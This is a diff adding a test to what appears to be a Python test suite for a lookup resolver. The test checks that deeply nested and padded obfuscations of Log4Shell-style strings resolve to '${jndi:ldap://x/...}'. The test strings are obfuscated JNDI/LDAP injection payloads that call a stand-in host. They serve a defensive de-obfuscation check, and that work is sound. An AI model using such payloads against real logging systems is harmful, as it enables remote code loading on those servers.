@@ -116,3 +116,11 @@ def test_resolution_never_raises_and_stays_bounded(text: str) -> None:
     assert len(lookup_text([text, text])) <= MAX_DERIVED_BYTES
     climb_depth(text)
     url_params(text)
+
+
+def test_lookups_of_any_nesting_and_behind_any_padding_are_resolved() -> None:
+    deep = "${::-" * 500 + "j" + "}" * 500  # 500 nested defaults: each yields the next
+    assert resolve_lookups("${" + deep + "ndi:ldap://x/a}") == "${jndi:ldap://x/a}"
+    padded = "A" * 100_000 + "${${lower:J}ndi:ldap://x/b}"
+    assert "${jndi:ldap://x/b}" in resolve_lookups(padded)
+    assert resolve_lookups("a}b${c") == "a}b${c"  # stray and unclosed braces stay as written
